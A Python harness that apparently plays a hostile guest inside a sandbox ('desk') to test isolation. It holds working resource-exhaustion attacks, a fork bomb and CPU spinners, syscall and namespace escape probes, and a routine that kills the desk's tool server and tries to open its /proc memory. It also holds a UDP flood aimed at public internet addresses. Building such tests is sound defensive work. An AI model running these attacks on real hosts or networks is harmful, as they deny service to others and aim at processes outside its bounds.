"""What a hostile guest does inside its desk: `python3 guest.py ATTACK [WORDS]`.

Each attack prints one line of JSON, what it got, and then holds it until it is ended. It takes what it can up to a
bound that proves the hole without breaking the machine that the attack runs on.
"""
import ctypes
import errno
import fcntl
import json
import os
import pty
import signal
import socket
import struct
import subprocess
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
KEPT = []  # what an attack got must not be given back by Python


def call(number, *arguments):
    """The result of a system call, or minus its errno."""
    result = LIBC.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    return result if result >= 0 else -ctypes.get_errno()


def name_of(result):
    return "ok" if result >= 0 else errno.errorcode.get(-result, str(result))


def tell(**what):
    print(json.dumps(what), flush=True)


def hold():
    while True:
        time.sleep(1000)


def take(one, most):
    """Calls `one` until it fails or `most` are had; {"count", "end"}."""
    kept = []
    KEPT.append(kept)
    while len(kept) < most:
        try:
            kept.append(one())
        except OSError as problem:
            return kept, errno.errorcode.get(problem.errno, "refused")
    return kept, "enough"


def told(kept, end):
    tell(count=len(kept), end=end)
    hold()


def checked(result):
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return result


def in_children(count, work):
    """Runs `work(report)` in `count` children, which hold what they got; the sum of what they report."""
    total = 0
    ends = []
    for _ in range(count):
        mine, theirs = os.pipe()
        try:
            child = os.fork()
        except OSError as problem:
            ends.append(errno.errorcode[problem.errno])
            os.close(mine), os.close(theirs)
            break
        if child == 0:
            os.close(mine)
            try:
                got = work()
            except OSError:
                got = 0
            os.write(theirs, struct.pack("q", got))
            hold()
        os.close(theirs)
        total += struct.unpack("q", os.read(mine, 8).ljust(8, b"\0"))[0]
        os.close(mine)
    return total, ends


# --- counters of the host ------------------------------------------------------------------------

def inotify_instances(most):
    total, ends = in_children(24, lambda: len(take(lambda: checked(call(294, 0)), most // 24)[0]))
    tell(count=total, end=",".join(ends))
    hold()


def inotify_watches(most):
    """Of every folder, by as many instances as there may be."""
    folders = []
    for folder, below, _ in os.walk("/"):
        if folder.startswith("/proc"):
            below.clear()
        folders.append(folder.encode())
    kept = 0
    while True:
        instance = call(294, 0)
        if instance < 0:
            return tell(count=kept, end=name_of(instance)) or hold()
        for folder in folders:
            result = call(254, instance, folder, 2)
            if result == -errno.ENOSPC or kept >= most:
                return tell(count=kept, end="enough" if kept >= most else "ENOSPC") or hold()
            kept += result >= 0


def aio(most):
    total = 0
    size = 4096
    while total < most and size:
        context = ctypes.c_ulong(0)
        result = call(206, size, ctypes.byref(context))
        if result < 0:
            if size == 1 or result == -errno.ENOSYS or result == -errno.EPERM:
                return tell(count=total, end=name_of(result)) or hold()
            size //= 2
        else:
            total += size
    tell(count=total, end="enough")
    hold()


def ptys(most):
    told(*take(os.openpty, most))


def queued_signals(most):
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
    info = (ctypes.c_int * 32)()
    info[0], info[2] = signal.SIGRTMIN, -1  # si_signo, si_code SI_QUEUE
    told(*take(lambda: checked(call(129, os.getpid(), int(signal.SIGRTMIN), ctypes.byref(info))), most))


def timers(most):
    def one():
        timer = ctypes.c_int(0)
        return checked(call(222, 1, 0, ctypes.byref(timer)))
    told(*take(one, most))


def message_queues(most):
    realtime = ctypes.CDLL("librt.so.1", use_errno=True)
    names = iter(range(1 << 30))

    def one():
        made = realtime.mq_open(b"/attack%d" % next(names), os.O_CREAT | os.O_RDWR, 0o600, None)
        return checked(made if made >= 0 else -ctypes.get_errno())
    told(*take(one, most))


def descriptors(most):
    """Open files of as many processes as there may be."""
    total, ends = 0, []
    def fill():
        return len(take(lambda: os.dup(os.open("/dev/null", os.O_RDONLY)) and os.open("/dev/null", os.O_RDONLY), most)[0]) * 2
    while total < most:
        got, ends = in_children(1, fill)
        total += got
        if not got:
            break
    tell(count=total, end=",".join(ends))
    hold()


# --- memory that nobody is charged for -----------------------------------------------------------

def netlink_queues(most):
    """`most` sockets of rtnetlink with dumps asked for and never read."""
    question = struct.pack("=LHHLLBxHiLL", 32, 18, 0x301, 1, 0, 0, 0, 0, 0, 0)

    def one():
        made = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
        for option in (8, 7):  # receive and send buffers as large as may be
            made.setsockopt(socket.SOL_SOCKET, option, 1 << 30)
        made.setblocking(False)
        made.send(question)
        made.recv(32768)  # who once read much is given large buffers
        for _ in range(64):
            try:
                made.send(question)
            except OSError:
                break
        return made

    total, ends = in_children(64, lambda: len(take(one, most // 64)[0]))
    tell(count=total, end=",".join(ends))
    hold()


def locks(most):
    """POSIX locks of every other byte, of many files: the kernel searches those of one from its first."""
    taken = 0
    end = "enough"
    while taken < most and end == "enough":
        file = os.open(f"/tmp/locked.{len(KEPT)}", os.O_RDWR | os.O_CREAT)
        KEPT.append(file)
        try:
            for byte in range(0, 2000, 2):
                fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, byte)
                taken += 1
        except OSError as problem:
            end = errno.errorcode[problem.errno]
    tell(count=taken, end=end)
    hold()


def pair_of(kind):
    """Two connected sockets, the one that sends first, with buffers as large as may be."""
    if kind == "unix":
        return socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
    receiver.bind(("127.0.0.1", 0))
    receiver.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 30)
    if kind == "udp":
        sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sender.connect(receiver.getsockname())
        return sender, receiver
    receiver.listen(1)
    sender = socket.create_connection(receiver.getsockname())
    return sender, receiver.accept()[0], receiver


def full_pairs(kind, most):
    """Sends `most` MiB to sockets that never read, by children of 64 MiB each."""
    def one():
        made = pair_of(kind)
        made[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
        made[0].setblocking(False)
        for attempt in range(3):
            try:
                # A UDP sender never learns that its receiver is full.
                for _ in range(8 if kind == "udp" else 1 << 30):
                    sent[0] += made[0].send(b"x" * 60000)
            except OSError:
                time.sleep(0.005)
        if sent[0] > 64 << 20 or time.monotonic() > end:
            raise OSError(errno.EDQUOT, "")
        return made

    def fill():
        KEPT.append(take(one, 4000))
        return sent[0] >> 20

    sent = [0]
    total = 0
    end = time.monotonic() + 40
    while total < most:
        got, ends = in_children(1, fill)
        total += got
        if got < 8:
            break
    tell(count=total, end="")
    hold()


# --- between desks -------------------------------------------------------------------------------

def lock_devices():
    got = []
    for name in ("null", "zero", "full", "random", "urandom", "tty"):
        try:
            fcntl.flock(os.open(f"/dev/{name}", os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)
            got.append(name)
        except OSError:
            pass
    tell(locked=got)
    hold()


def watch_devices():
    """Tells, after a line on standard input, whether uses of the host's devices were seen."""
    instance = checked(call(294, 0o4000))
    for name in ("null", "zero", "full", "random", "urandom"):
        call(254, instance, f"/dev/{name}".encode(), 0xfff)
    print("watching", flush=True)
    time.sleep(3)
    try:
        seen = len(os.read(instance, 65536))
    except BlockingIOError:
        seen = 0
    tell(seen=seen)


# --- calls of the kernel -------------------------------------------------------------------------

def x32(number):
    return call(0x40000000 | number)


def calls():
    """What the kernel answers to what a desk has no use for."""
    buffer = ctypes.create_string_buffer(4096)
    one = ctypes.byref(ctypes.c_ulong(0))
    tell(**{name: name_of(result()) for name, result in {
        "mount": lambda: call(165, b"none", b"/tmp", b"tmpfs", 0, None),
        "ptrace": lambda: call(101, 16, os.getppid(), 0, 0),
        "process_vm_readv": lambda: call(310, os.getpid(), buffer, 0, buffer, 0, 0),
        "process_vm_writev": lambda: call(311, os.getpid(), buffer, 0, buffer, 0, 0),
        "pidfd_getfd": lambda: call(438, 0, 0, 0),
        "kcmp": lambda: call(312, os.getpid(), os.getpid(), 0, 0, 0),
        "process_madvise": lambda: call(440, 0, buffer, 0, 4, 0),
        "add_key": lambda: call(248, b"user", b"x", b"y", 1, -3),
        "request_key": lambda: call(249, b"user", b"x", None, 0),
        "keyctl": lambda: call(250, 0, -3, 1),
        "bpf": lambda: call(321, 0, buffer, 72),
        "perf_event_open": lambda: call(298, buffer, 0, -1, -1, 0),
        "userfaultfd": lambda: call(323, 1),
        "io_uring_setup": lambda: call(425, 1, buffer),
        "fanotify_init": lambda: call(300, 0, 0),
        "open_by_handle_at": lambda: call(304, -100, buffer, 0),
        "setns": lambda: call(308, 0, 0),
        "move_pages": lambda: call(279, 0, 0, None, None, None, 0),
        "modify_ldt": lambda: call(154, 0, buffer, 16),
        "syslog": lambda: call(103, 3, buffer, 10),
        "quotactl": lambda: call(179, 0, None, 0, buffer),
        "io_setup": lambda: call(206, 1, one),
        "clone3": lambda: call(435, None, 0),
        "a call that does not exist yet": lambda: call(2000),
        "a call of the x32 table": lambda: x32(39),
        "personality(READ_IMPLIES_EXEC)": lambda: call(135, 0x0400000),
        "TIOCSTI": lambda: call(16, pty.openpty()[1], 0x5412, b"x"),
        "TIOCSETD": lambda: call(16, pty.openpty()[1], 0x5423, ctypes.byref(ctypes.c_int(15))),
        "socket(AF_PACKET)": lambda: call(41, 17, 3, 0),
        "socket(AF_VSOCK)": lambda: call(41, 40, 1, 0),
        "socket(AF_ALG)": lambda: call(41, 38, 5, 0),
        "socket(AF_NETLINK, NETFILTER)": lambda: call(41, 16, 3, 12),
        "socket(AF_INET, SCTP)": lambda: call(41, 2, 1, 132),
        "socket(AF_INET, DCCP)": lambda: call(41, 2, 6, 33),
        "socket(AF_INET, MPTCP)": lambda: call(41, 2, 1, 262),
        "socket(AF_INET, SMC)": lambda: call(41, 2, 1, 256),
        "socketpair(AF_VSOCK)": lambda: call(53, 40, 1, 0, buffer),
        "socketpair(AF_TIPC)": lambda: call(53, 30, 5, 0, buffer),
    }.items()})


def nested():
    """The same of root of a namespace of its own: it is asked for network and mounts."""
    result = {}
    for name, flags in {"user+mount": 0x10020000, "user+uts": 0x14000000, "user+ipc": 0x18000000, "user+cgroup": 0x12000000,
                        "user+time": 0x10000080}.items():
        child = os.fork()
        if child == 0:
            os._exit(min(255, -min(0, call(272, flags))))
        result[f"unshare {name}"] = name_of(-os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))
    if call(272, 0x50000000) < 0:
        tell(**result, network="refused")
        return
    for words in ("ip link set lo up", "ip link add br0 type bridge", "ip link add v0 type veth", "tc qdisc add dev lo root handle 1: htb",
                  "ip link add d0 type dummy"):
        result[words] = "ok" if subprocess.run(words.split(), capture_output=True).returncode == 0 else "refused"
    try:
        plain = socket.socket()
        for level, option, name in ((0, 64, "iptables"), (0, 96, "arptables"), (0, 128, "ebtables"), (0, 1152, "IPVS"),
                                    (0, 200, "multicast routes"), (0, 17, "xfrm policy")):
            try:
                plain.setsockopt(level, option, b"\0" * 120)
                result[name] = "ok"
            except OSError as problem:
                result[name] = errno.errorcode[problem.errno]
    except OSError as problem:
        result["socket"] = errno.errorcode[problem.errno]
    tell(**result)


def namespaces(most):
    """Nested namespaces, each held by a process."""
    def one():
        if call(272, 0x10000000) < 0:
            raise OSError(errno.ENOSPC, "")
        return 1
    total = 0
    while total < most:
        got, ends = in_children(1, one)
        if not got:
            break
        total += got
    tell(count=total, end="")
    hold()


def churn():
    """Makes and leaves namespaces without end."""
    tell(started=True)
    for _ in range(3):
        if os.fork() == 0:
            break
    while True:
        child = os.fork()
        if child == 0:
            call(272, 0x50000000)
            os._exit(0)
        os.waitpid(child, 0)


def spin(count):
    tell(started=True)
    for _ in range(count - 1):
        if os.fork() == 0:
            break
    while True:
        pass


def bomb():
    tell(started=True)
    while True:
        try:
            os.fork()
        except OSError:
            pass


def show(*paths):
    """How much of files that tell of the host can be read."""
    seen = {}
    for path in paths:
        try:
            if os.path.isdir(path):
                seen[path] = len(os.listdir(path))
            else:
                with open(path, "rb") as file:
                    seen[path] = len(file.read(4096))
        except OSError as problem:
            seen[path] = errno.errorcode[problem.errno]
    tell(**seen)


# --- the desk's own tool server ------------------------------------------------------------------

def parts():
    """Processes of the tool server, by name."""
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as file:
                    text = file.read()
            except OSError:
                continue
            if text[text.index("(") + 1:text.rindex(")")].startswith("carrel-desk") and int(entry) != 1:
                yield int(entry)


def seize(rounds):
    """Ends the tool server again and again, and tries to open the memory of the one that follows."""
    got = tried = 0
    known = set(parts())
    for _ in range(rounds):
        for process in known:
            try:
                os.kill(process, signal.SIGKILL)
            except OSError:
                pass
        end = time.monotonic() + 20
        newest = known
        while time.monotonic() < end:
            fresh = set(parts()) - known
            for process in fresh:
                for name in ("mem", "environ", "maps"):
                    try:
                        os.close(os.open(f"/proc/{process}/{name}", os.O_RDWR if name == "mem" else os.O_RDONLY))
                        got += 1
                    except OSError:
                        pass
            if fresh and newest is known:
                newest, end = fresh, time.monotonic() + 1.5
        known = set(parts())
        tried += 1
    tell(rounds=tried, opened=got)


def flood(count):
    """Datagrams to addresses of the public internet."""
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent = 0
    for at in range(count):
        try:
            sender.sendto(b"x", (f"{11 + at % 80}.{at >> 14 & 255}.{at >> 6 & 255}.{1 + at % 250}", 9))
            sent += 1
        except OSError:
            time.sleep(0.0005)
    tell(sent=sent)


def reach(*targets):
    """Which of address:port can be connected to, or refuse at once (somebody is there)."""
    seen = {}
    for target in targets:
        address, port = target.rsplit(":", 1)
        attempt = socket.socket()
        attempt.settimeout(2)
        try:
            attempt.connect((address, int(port)))
            seen[target] = "open"
        except ConnectionRefusedError:
            seen[target] = "refused"
        except OSError as problem:
            seen[target] = errno.errorcode.get(problem.errno, "silent")
        attempt.close()
    tell(**seen)


def main():
    attack, *words = sys.argv[1:]
    words = [int(word) if word.isdigit() else word for word in words]
    globals()[attack.replace("-", "_")](*words)


main()
